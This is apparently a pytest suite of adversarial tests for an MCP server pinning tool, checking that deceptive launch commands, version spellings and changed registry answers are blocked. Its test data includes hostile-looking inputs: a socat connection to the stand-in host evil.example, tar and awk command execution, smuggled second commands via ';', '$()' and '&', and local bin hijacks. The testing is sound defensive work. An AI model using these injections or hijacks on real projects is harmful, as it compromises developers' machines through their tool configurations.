"""Command lines, versions and registries that pass for something they are not."""

from __future__ import annotations

import json

import pytest

from tests.adversarial.conftest import LENIENT, commit, lock, pin, stage
from tests.cli.conftest import Desk
from tests.registry import Registry

HOOK = ("check", "--hook")


def test_a_local_version_satisfies_an_exact_one(desk: Desk, registry: Registry) -> None:
    """`==1.0.0` takes `1.0.0+evil` too, and prefers it (PEP 440, "Version matching"); its files are not looked at.

    `registries.pypi._by_version` keeps the local version apart: it belongs to the release, or makes it unpinned.
    """
    registry.publish_pypi("server", "1.0.0")
    stage(desk, "mcp-guard.toml", LENIENT)
    desk.servers(".mcp.json", {"a": {"command": "uvx", "args": ["server@1.0.0"]}})
    pin(desk)
    assert desk.guard("check").code == 0
    registry.publish_pypi("server", "1.0.0+evil", published="2026-11-21T00:00:00.000000Z")
    assert desk.guard("check", "--network=required").code == 1


@pytest.mark.parametrize(
    "rest",
    [
        ["awk", "BEGIN { system(ENVIRON[0]) }"],
        ["socat", "-", "TCP:evil.example:1"],
        ["tar", "-cf", "/dev/null", "x", "--checkpoint=1", "--checkpoint-action=exec=sh evil.sh"],
    ],
)
def test_a_program_that_no_package_brings(desk: Desk, registry: Registry, rest: list[str]) -> None:
    """`npx -p PACKAGE PROGRAM` is taken for a program of the package, and any installed one passes as verified.

    `launchers.npm_family.launches` with `launchers.program` (a list of known launchers, else nothing is said). The
    manifest's `bin` would tell; without it the program is from the machine.
    """
    lock(desk, registry, "npx", "-y", "-p", "server@1.0.0", *rest)
    assert desk.guard("check").code == 1


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"name": "x", "version": "1.0.0", "bin": {"server@1.0.0": "./evil.js"}}'),
        ("node_modules/.bin/server@1.0.0", "#!/bin/sh\nevil\n"),
        ("node_modules/server/package.json", '{"name": "server", "version": "1.0.0", "bin": {"server": "./evil.js"}}'),
    ],
)
def test_npx_looks_into_the_project_first(desk: Desk, registry: Registry, path: str, text: str) -> None:
    """Tracked files take the place of the locked package: npx asks the registry only for what it does not find here.

    npm/cli:workspaces/libnpmexec/lib/index.js: `hasPkgBin(".", args[0])`, then `localFileExists(".bin/" + args[0])`,
    then a node of the local tree whose name and version match. Nothing in `launchers.npx`, `workspace` or `triggers`
    looks at them.
    """
    lock(desk, registry, "npx", "-y", "server@1.0.0")
    assert desk.guard("check").code == 0
    commit(desk)
    desk.write(path, text)
    desk.write("evil.js", "1\n")
    desk.git("add", "--all", "--force")
    assert desk.guard("check").code == 1
    assert desk.guard(*HOOK).code == 1


def test_one_package_named_twice_can_be_locked(desk: Desk, registry: Registry) -> None:
    """`-p server@1.0.0 -p server@1.0.0` is `definition-changed` for ever: `pin`, its remedy, changes nothing.

    `lock.writing._server` drops the repetition, `rules.definition_changed.differences` does not.
    """
    lock(desk, registry, "npx", "-y", "-p", "server@1.0.0", "-p", "server@1.0.0", "server")
    assert desk.guard("check").code == 0


@pytest.mark.parametrize(
    "argv",
    [
        ["npx", "-y", "supergateway@1.0.0", "--stdio", "npx -y evil"],
        ["npx", "-y", "mcp-proxy@1.0.0", "npx", "-y", "evil"],
        ["uvx", "mcp-proxy@1.0.0", "npx", "-y", "evil"],
        ["npx", "-y", "@modelcontextprotocol/inspector@1.0.0", "npx", "-y", "evil"],
    ],
)
def test_a_bridge_starts_what_its_arguments_name(desk: Desk, registry: Registry, argv: list[str]) -> None:
    """Bridges start a second, unpinned server from their arguments, and are "pinned and verified" (DESIGN §5).

    `launchers.npm_family` knows `mcp-remote` alone, `launchers.uvx` none.
    """
    for name in ("supergateway", "mcp-proxy", "@modelcontextprotocol/inspector"):
        registry.publish_npm(name, "1.0.0")
    registry.publish_pypi("mcp-proxy", "1.0.0")
    desk.servers(".mcp.json", {"a": {"command": argv[0], "args": argv[1:]}})
    desk.guard("pin")
    desk.git("add", "--all")
    assert {"unpinned", "opaque-launch"} & set(desk.rules())


@pytest.mark.parametrize(
    "mount", [["-v", "./evil.npmrc:/app/.npmrc"], ["--mount", "type=bind,src=./bin,dst=/usr/local/bin"]]
)
def test_a_launcher_in_a_container_with_files_from_outside(desk: Desk, registry: Registry, mount: list[str]) -> None:
    """What is mounted can be npx itself, or its `.npmrc`; a script there is opaque, a launcher is believed.

    `launchers.docker._inside` and `launchers.files.script`: the scope "mounted" counts for scripts only.
    """
    lock(desk, registry, "docker", "run", "-i", *mount, "node@sha256:" + "0" * 64, "npx", "-y", "server@1.0.0")
    assert desk.guard("check").code == 1


@pytest.mark.parametrize(
    ("variable", "argv"),
    [
        ("UV_PYTHON", ["uvx", "server==1.0.0"]),
        ("UV_TOOL_DIR", ["uvx", "server==1.0.0"]),
        ("PIPX_DEFAULT_PYTHON", ["pipx", "run", "server==1.0.0"]),
        ("PIPX_HOME", ["pipx", "run", "server==1.0.0"]),
        ("YARN_YARN_PATH", ["yarn", "dlx", "server@1.0.0"]),
    ],
)
def test_a_variable_that_chooses_what_runs(desk: Desk, registry: Registry, variable: str, argv: list[str]) -> None:
    """The flag `--python ./evil` is opaque; the variable that says the same, or names installed tools, is nothing.

    `launchers.overrides`: `PYPI_MOVING`, `PYPI_VARIABLE` (no `PIPX_…`), `NPM_VARIABLES`.
    """
    registry.publish_pypi("server", "1.0.0")
    lock(desk, registry, *argv, env={variable: "./evil"})
    assert desk.guard("check").code == 1


@pytest.mark.parametrize(
    "spec",
    ["server@v1.0.0", "server@=1.0.0", "server@1.0.0+build", "alias@npm:server@1.0.0"],
)
def test_spellings_of_one_version(desk: Desk, registry: Registry, spec: str) -> None:
    """Repelled: they are the version that they mean, and locked as that."""
    lock(desk, registry, "npx", "-y", spec)
    assert desk.guard("check").code == 0
    assert list(json.loads(desk.read("mcp-guard.lock"))["packages"]) == ["pkg:npm/server@1.0.0"]


@pytest.mark.parametrize(
    "argv",
    [
        ["npx", "-y", "server@1.0"],
        ["npx", "-y", "server@^1.0.0"],
        ["npx", "-y", "server@1.0.0 || 2.0.0"],
        ["npx", "-y", "server@~1.0.0"],
        ["npx", "-y", "alias@npm:server"],
        ["npx", "-y", "server@${V:-1.0.0}"],
        ["npx", "-y", "-p", "server@1.0.0", "-p", "evil", "server"],
        ["npx", "-y", "-p", "server@1.0.0", "npx", "-y", "evil"],
        ["uvx", "server==1.*"],
        ["uvx", "server>=1.0.0"],
        ["uvx", "server==1.0.0,!=2"],
        ["uvx", "--with", "evil", "server==1.0.0"],
        ["uvx", "--from", "server==1.0.0", "uvx", "evil"],
        ["npm", "exec", "-y", "server@1.0.0", "--package=evil"],
        ["env", "npm_config_package=evil", "npx", "-y", "server@1.0.0"],
        ["sh", "-c", "npx -y server@1.0.0; npx -y evil"],
        ["sh", "-c", "npx -y server@1.0.0 $(npx -y evil)"],
        ["cmd", "/c", "npx -y server@1.0.0 & npx -y evil"],
        ["docker", "run", "node:22", "npx", "-y", "server@1.0.0"],
    ],
)
def test_what_is_not_pinned_blocks(desk: Desk, registry: Registry, argv: list[str]) -> None:
    """Repelled: command lines that would start something else than the pinned version."""
    registry.publish_npm("server", "1.0.0")
    registry.publish_pypi("server", "1.0.0")
    stage(desk, "mcp-guard.toml", LENIENT)
    desk.servers(".mcp.json", {"a": {"command": argv[0], "args": argv[1:]}})
    assert desk.guard("check").code == 1
    assert desk.guard(*HOOK).code == 1


@pytest.mark.parametrize("change", ["digest", "yank", "file", "unpublish", "other name", "placeholder"])
@pytest.mark.parametrize("ecosystem", ["npm", "pypi"])
def test_a_registry_that_changes_its_answer(desk: Desk, registry: Registry, ecosystem: str, change: str) -> None:
    """Repelled: whatever the registry says otherwise after the pin blocks when it is asked."""
    from tests.registry import PypiFile

    registry.publish_npm("server", "1.0.0")
    registry.publish_pypi("server", "1.0.0")
    stage(desk, "mcp-guard.toml", LENIENT)
    command, spec = ("npx", ["-y", "server@1.0.0"]) if ecosystem == "npm" else ("uvx", ["server==1.0.0"])
    desk.servers(".mcp.json", {"a": {"command": command, "args": spec}})
    pin(desk)
    assert desk.guard("check", "--network=required").code == 0
    match (ecosystem, change):
        case ("npm", "digest" | "file"):
            registry.publish_npm("server", "1.0.0", dist={"integrity": "sha512-" + "A" * 86 + "=="})
        case ("pypi", "digest"):
            one = PypiFile("server-1.0.0.tar.gz", "0" * 64, "2026-01-01T00:00:00Z", False)
            registry.publish_pypi("server", "1.0.0", files=(one,))
        case ("pypi", "file"):
            files = tuple(
                PypiFile(name, "0" * 64, "2026-01-01T00:00:00Z", False)
                for name in ("server-1.0.0.tar.gz", "server-1.0.0-py3-none-any.whl", "server-1.0.0-1-py3-none-any.whl")
            )
            registry.publish_pypi("server", "1.0.0", files=files)
        case ("pypi", "yank"):
            registry.publish_pypi("server", "1.0.0", yanked="bad")
        case ("npm", "other name"):
            registry.publish_npm("Server", "1.0.0")
            registry.packuments["server"] = registry.packuments.pop("Server")
        case ("pypi", "other name"):
            registry.publish_pypi("server2", "1.0.0")
            registry.projects["server"] = registry.projects.pop("server2")
        case ("npm", "placeholder" | "yank"):
            registry.publish_npm("server", "1.0.0", description="security holding package")
        case _:
            registry.packuments.clear()
            registry.projects.clear()
    assert desk.guard("check", "--network=required").code in {1, 3}


def test_one_of_two_registries_is_down(desk: Desk, registry: Registry) -> None:
    """Repelled: what could not be asked is undecided, what is wrong blocks, and 1 wins over 3."""
    registry.publish_npm("server", "1.0.0")
    registry.publish_pypi("server", "1.0.0")
    stage(desk, "mcp-guard.toml", LENIENT)
    both = {"a": {"command": "npx", "args": ["-y", "server@1.0.0"]}, "b": {"command": "uvx", "args": ["server==1.0.0"]}}
    desk.servers(".mcp.json", both)
    pin(desk)
    registry.break_down("status", path="/simple", status=500)
    assert desk.guard("check", "--network=required").code == 3
    registry.publish_npm("server", "1.0.0", description="security holding package")
    assert desk.guard("check", "--network=required").code == 1
